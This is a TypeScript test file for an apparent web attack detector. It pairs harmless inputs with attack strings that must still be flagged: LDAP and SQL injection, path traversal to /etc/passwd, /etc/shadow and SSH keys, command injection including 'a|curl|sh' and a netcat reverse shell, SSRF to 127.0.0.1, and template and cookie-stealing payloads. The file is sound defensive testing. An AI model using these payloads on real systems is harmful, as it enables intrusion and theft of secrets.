import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

/** A page of a manual, in a field about which nothing is known. */
function page(inside: string): ReturnType<typeof sent> {
  const around = Array.from({ length: 12 }, (_, line) => `Line ${line} of a page that somebody wrote down.`)
  return sent({ note: [...around, inside, ...around].join('\n') })
}

/** A document that says where its schemas lie. */
function located(schemas: string): ReturnType<typeof posted> {
  const instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
  return posted(
    'application/gpx+xml',
    `<?xml version="1.0"?><gpx ${instance} xsi:schemaLocation="${schemas}"><a/></gpx>`,
  )
}

/** Settings, expressions and pieces of source that people keep, and what stays an attack beside them. */
const KINDS: HonestKinds = {
  'a page about a directory': {
    honest: [
      page('user_filter = (&(objectClass=posixAccount)(uid=%u))'),
      page('dn: uid=ada,ou=people\nobjectClass: person\nuserPassword=secret'),
    ],
    attacks: [
      asked('/s', { q: 'objectClass=*' }),
      sent({ name: '*)(objectClass=*' }),
      filled({ user: 'x)(userPassword=*' }),
    ],
  },
  'a password that is repeated, or old': {
    honest: ['retype', 'wpRetype', 'pass1', 'pass2', 'newpass', 'passchk', 'oldpass', 'user_pass2'].map(
      name => filled({ [name]: "N3w $(pass) 'or' 1=1; --x" }),
    ),
    attacks: ['bypass', 'compass', 'passage', 'retyped', 'pass3d']
      .map(name => filled({ [name]: "N3w $(pass) 'or' 1=1; --x" }))
      .concat(filled({ retype: "' or 1=1--" })),
  },
  'folders on a page of settings': {
    honest: [
      filled({ 'config[savedir]': '/var/lib/dokuwiki/data' }),
      filled({ 'repository[url]': '/var/lib/git/shop.git' }),
      filled({
        'settings[log_path]': '/var/log/shop/app.log',
        'options[media][upload_dir]': '/var/www/shop/files/',
      }),
    ],
    attacks: [
      filled({ 'config[savedir]': '/etc/passwd' }),
      filled({ 'config[savedir]': '/var/www/../../etc/shadow' }),
      filled({ 'config[savedir]': '/var/lib/shop/.ssh/id_rsa' }),
      filled({ 'config[page]': '/var/www/html/index.php' }),
      filled({ 'repository[url]': 'file:///etc/passwd' }),
      filled({ savedir: '/var/lib/shop/data' }),
      asked('/s', { 'config[savedir]': '/var/lib/shop/data' }),
    ],
  },
  'classes of PHP': {
    honest: [sent({ code: 'return self::$data;' }), page('$all = Store::$data;\nparent::$data = [];')],
    attacks: [
      asked('/index.asp::$DATA', {}),
      asked('/s', { file: 'web.config::$DATA' }),
      asked('/s', { file: 'c:\\site\\secret::$DATA' }),
    ],
  },
  'names of programs to choose from': {
    honest: [
      asked('/s', { agents: 'googlebot|bingbot|curl|wget' }),
      sent({ pattern: 'zip|tar|gz|rar' }),
      filled({ pattern: '\\b(?:curl|wget|python-requests)\\b' }),
    ],
    attacks: [
      asked('/s', { q: 'a|curl http://x.example/a' }),
      asked('/s', { q: 'a|curl|sh' }),
      sent({ host: 'x|wget -O- x.example' }),
      filled({ host: '1;nc -e /bin/sh 10.0.0.1 80' }),
      asked('/s', { q: '127.0.0.1|id|' }),
    ],
  },
  'a container that waits': {
    honest: [
      posted('application/yaml', 'services:\n  a:\n    command: sh -c "echo a && tail -f /dev/null"\n'),
    ],
    attacks: [
      asked('/s', { host: 'x;tail -f /dev/null' }),
      posted('application/yaml', 'a:\n  command: "echo a && tail -f /etc/passwd"\n'),
    ],
  },
  'regular expressions': {
    honest: [
      sent({ pattern: '^((.*))$' }),
      sent({ pattern: '(?:\\S*))' }),
      sent({ pattern: '^[A-Z]$[0-9]' }),
      sent({ pattern: '[a-z]&{2}' }),
    ],
    attacks: [
      sent({ user: 'admin*))' }),
      sent({ user: '*))\u0000' }),
      asked('/s', { q: '$[7*7]' }),
      asked('/s', { q: '-1&{document.cookie};' }),
    ],
  },
  'conditions of a script': {
    honest: [
      sent({ condition: 'a=="x"||"y"===b.c("d")' }),
      sent({ condition: 'if (!(n=e.target)) return' }),
      sent({ condition: 'f("x")&&"ascending"!==d.order' }),
    ],
    attacks: [
      sent({ name: '" || "a"="a' }),
      sent({ name: "' or 'a'==='a" }),
      asked('/s', { q: '*)(!(uid=x))' }),
    ],
  },
  'addresses on lines of their own': {
    honest: [
      sent({ link: '\n\n\n\n\n\n\nhttp://www.example.org/s' }),
      posted(
        'application/sparql-results+xml',
        '<sparql>\n<head>\n</head>\n<results>\n<result>\n\n<binding>\n<uri>http://www.example.org/s</uri></binding></result></results></sparql>',
      ),
    ],
    attacks: [
      sent({ link: 'go\tpher://127.0.0.1/' }),
      sent({ link: '\n\n\n\n\n\n\n\n  go\npher://127.0.0.1/' }),
      asked('/s', { u: '\t\t\t\t\t\t\thtt\np://127.0.0.1/' }),
      asked('/s', { u: '\n\n\n\n\n\nhttp://127\t.0.0.1/' }),
    ],
  },
  'formats that publish their schema': {
    honest: [
      located('http://www.geo.example/cache/1/0 http://www.geo.example/cache/1/0/cache.xsd'),
      located('http://www.topografix.com/GPX/1/0 http://www.topografix.com/GPX/1/0/gpx.xsd'),
    ],
    attacks: [
      located('http://geo.example/ http://other.example/a.xsd'),
      located('http://geo.internal/ http://geo.internal/a.xsd'),
      located('http://geo.example:8080/ http://geo.example:8080/a.xsd'),
      located('http://geo.example/ http://geo.example/a?x.xsd'),
      located('http://127.0.0.1/ http://127.0.0.1/a.xsd'),
    ],
  },
  'formulas of TeX': {
    honest: [sent({ text: '$$ {{1+2}\\over{3}} $$' })],
    attacks: [sent({ name: '{{1+2}}' }), asked('/s', { q: 'x {{7*7}} y' }), sent({ name: '{7*7}' })],
  },
}

testKinds(KINDS)
